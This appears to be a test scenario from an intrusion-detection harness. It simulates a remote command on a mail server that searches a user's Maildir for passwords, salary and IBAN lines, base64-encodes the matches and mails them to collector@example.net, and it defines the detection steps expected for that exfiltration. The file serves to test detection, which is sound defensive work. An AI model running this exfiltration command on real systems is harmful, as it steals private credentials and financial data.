# Not the mailbox, only the interesting lines of it, and the mail server carries them.
title="grep for words in the Maildir, the lines mailed outside"
what="A remote command of clerk without a terminal looks for words in the whole Maildir with grep -r and pipes what it finds through base64 to mail(1), to an address at example.net."
host=mx1.example.org user=clerk daemons="cron sshd"

act() {
  small_talk 3
  for n in 1 2 3 4; do mail_in --from "hr$n@example.com" --to clerk@example.org --subject "Salary review $n" --source 203.0.113.25 --helo smtp.example.com --text "The password of the share is still the one of last year.\n"; done
  wait_mail clerk 4
  ssh_run clerk 'grep -rhiE "password|salary|iban" Maildir | base64 | mail -s notes collector@example.net; sleep 1'
  wait_log 'to=<collector@example.net>.*status=sent'
  small_talk 1
}
truth() {
  exec_step search 'grep -rhiE' 'the Maildir is searched'
  mail_step sent 'to=<collector@example.net>.*status=sent' 'what was found leaves by mail'
}
